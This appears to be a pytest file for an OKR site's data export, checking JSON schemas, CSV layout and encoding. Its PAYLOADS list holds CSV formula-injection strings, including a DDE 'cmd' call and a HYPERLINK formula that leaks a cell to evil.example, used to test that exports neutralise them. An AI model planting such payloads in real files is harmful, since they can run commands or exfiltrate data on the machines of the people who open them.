"""Data: every row as its schema says, and CSV that spreadsheets read as it was meant."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from builders import check_in, company, key_result, objective, plan
from hostile import hostile_company
from jsonschema import Draft202012Validator, FormatChecker

from okrsite.by_plan import ByPlan
from okrsite.company import load_company
from okrsite.data import Sheet, Writer, csv_text, make_document, schema
from okrsite.measure import measure_company
from okrsite.model import Amendment, Company
from okrsite.model.change import Change, Term, Value
from okrsite.words import Words

ROOT = Path(__file__).parents[1]
AS_OF = date(2026, 11, 20)
SCHEMA = schema.document_schema()


def harbor() -> Company:
    now = datetime(2026, 11, 20, 12, tzinfo=UTC)
    return load_company(ROOT / "content" / "okrs", AS_OF, "leadership", now=now).company


def published(house: Company) -> dict[str, bytes]:
    """Return the bytes of every data file."""
    sheet = Sheet(house, measure_company(house), Words("en", house.as_of))
    return {file.url: b"".join(file.draw()) for file in Writer(sheet, ByPlan()).files()}


def document(house: Company) -> dict[str, Any]:
    return dict(make_document(house, measure_company(house), Words("en", house.as_of)))


def faults(found: object, by: dict[str, Any] = SCHEMA) -> list[str]:
    checker = Draft202012Validator(by, format_checker=FormatChecker())
    return [f"{error.json_path}: {error.message}" for error in checker.iter_errors(found)]


def rows(data: bytes) -> list[dict[str, str]]:
    """Return the rows of a CSV as a program reads them."""
    text = data.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def with_everything() -> Company:
    """Return what people can say at all, once each."""
    house = hostile_company("Said")
    own = house.plans[1]
    change = Change(Term.TARGET, Value(quantity=own.objectives[0].key_results[0].target), None)
    moved = Amendment(AS_OF, own.objectives[0].key_results[0].ref, "", change=change, by="ana")
    return replace(house, plans=(house.plans[0], replace(own, amendments=(*own.amendments, moved))))


@pytest.mark.parametrize("name", ["document", "check-ins"])
def test_a_schema_is_one(name: str) -> None:
    by = schema.document_schema() if name == "document" else schema.check_ins_schema()
    Draft202012Validator.check_schema(by)


@pytest.mark.parametrize("house", [harbor, with_everything, company], ids=["demo", "rich", "bare"])
def test_what_is_published_is_as_its_schema_says(house: Any) -> None:
    files = {
        url: json.loads(data) for url, data in published(house()).items() if url.endswith(".json")
    }
    by = files["data/okrs.schema.json"]
    assert faults(files["data/okrs.json"], by) == []
    for url, found in files.items():
        if url.endswith("/check-ins.json"):
            assert faults(found, files["data/check-ins.schema.json"]) == []
            assert found["$schema"] == "../check-ins.schema.json"
    assert files["data/okrs.json"]["$schema"] == "okrs.schema.json"


@pytest.mark.parametrize("table", schema.TABLES)
def test_a_row_has_the_fields_of_its_table_in_their_order(table: str) -> None:
    found = document(with_everything())[table]
    assert found, "the company has one of each"
    for row in found:
        assert set(row) == set(schema.TABLES[table])
    assert [*found[0]][:3] == ["ref", "url", "source"]


def test_the_schema_knows_every_part_of_the_document() -> None:
    assert set(document(harbor())) == set(SCHEMA["required"])
    assert set(schema.TABLES) < set(SCHEMA["properties"])


def test_the_schema_finds_what_is_wrong() -> None:
    found = document(with_everything())
    found["key_results"][0]["status"] = "fine"
    found["key_results"][1]["target"] = "9"
    del found["objectives"][0]["because"]
    found["as_of"] = "20.11.2026"
    assert len(faults(found)) == 4


def test_what_a_program_does_not_know_yet_does_it_no_harm() -> None:
    found = document(with_everything())
    found["key_results"][0]["mood"] = "sunny"
    assert faults(found) == []


@pytest.mark.parametrize("table", csv_text.COLUMNS)
def test_a_csv_has_columns_that_one_cell_holds(table: str) -> None:
    for name in csv_text.COLUMNS[table]:
        known = schema.TABLES[table][name]
        assert known.get("type", [])[:1] not in (["array"], ["object"]), name


def test_a_csv_says_what_the_document_says() -> None:
    house = harbor()
    said, found = document(house), published(house)
    for table, url in (("key_results", "key-results"), ("check_ins", "check-ins")):
        csv_rows = rows(found[f"data/{url}.csv"])
        assert len(csv_rows) == len(said[table]) > 0
        for row, line in zip(said[table], csv_rows, strict=True):
            assert [*line] == list(csv_text.COLUMNS[table])
            for name, text in line.items():
                value = row[name]
                if isinstance(value, int | float) and not isinstance(value, bool):
                    assert float(text) == value
                elif value is None:
                    assert text == ""


def test_a_csv_is_utf_8_that_excel_takes_for_it() -> None:
    for url, data in published(harbor()).items():
        if url.endswith(".csv"):
            assert data.startswith(b"\xef\xbb\xbf")
            assert data.count(b"\xef\xbb\xbf") == 1
            assert data.endswith(b"\r\n")
            assert b"\n" not in data.replace(b"\r\n", b"")


def test_a_number_stays_a_number() -> None:
    said = (check_in("2026-11-09", -5, note="-5 is too low"), check_in("2026-11-16", "-0.25"))
    house = company(plan(objective("trust", key_result("sev1", *said, baseline=-9, target=1))))
    found = published(house)
    [row] = rows(found["data/key-results.csv"])
    assert (row["baseline"], row["current"]) == ("-9", "-0.25")
    lines = rows(found["data/check-ins.csv"])
    assert [line["value"] for line in lines] == ["-5", "-0.25"]
    assert lines[0]["note"] == "'-5 is too low"


PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    '"=1+1"',
    "'=1+1",
    "fine;=1+1",
    "fine;@SUM(1)",
    'x"\r\n=1+1\r\n"',
    "a\x00=1",
    "\x00=1+1",
    "\x1f=1+1",
    "\u2028=1+1",
    "\ufeff=1+1",
]
CALCULATES = tuple("=+-@＝＋－＠\t\r\n")


def sheets(data: bytes) -> list[list[str]]:
    """Return the cells as a spreadsheet sees them, wherever it thinks that a cell ends."""
    text = data.decode("utf-8-sig")
    found = []
    for mark in ",;\t":
        reader = csv.reader(io.StringIO(text, newline=""), delimiter=mark)
        found += list(reader)
    return found


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
def test_no_text_is_calculated(payload: str) -> None:
    for url, data in published(hostile_company(payload)).items():
        if not url.endswith(".csv"):
            continue
        assert rows(data)
        for cells in sheets(data):
            for each in cells:
                shown = each.strip(" \ufeff\u2028\xa0")
                assert not shown.startswith(CALCULATES) or is_number(shown), (url, each)


def is_number(text: str) -> bool:
    try:
        return Decimal(text).is_finite()
    except ArithmeticError:
        return False


def test_a_row_is_a_line() -> None:
    for data in (published(hostile_company("one\ntwo\r\nthree"))).values():
        if data.startswith(csv_text.MARK):
            assert data.count(b"\r\n") == len(rows(data)) + 1


def test_ordinary_texts_are_left_as_they_are() -> None:
    for text in ("Two - or more", "a=b", "5 + 5", "it's @ana", "Größe; Maß", "中文", "🙂", "1.5"):
        assert csv_text.safe_text(text) == text
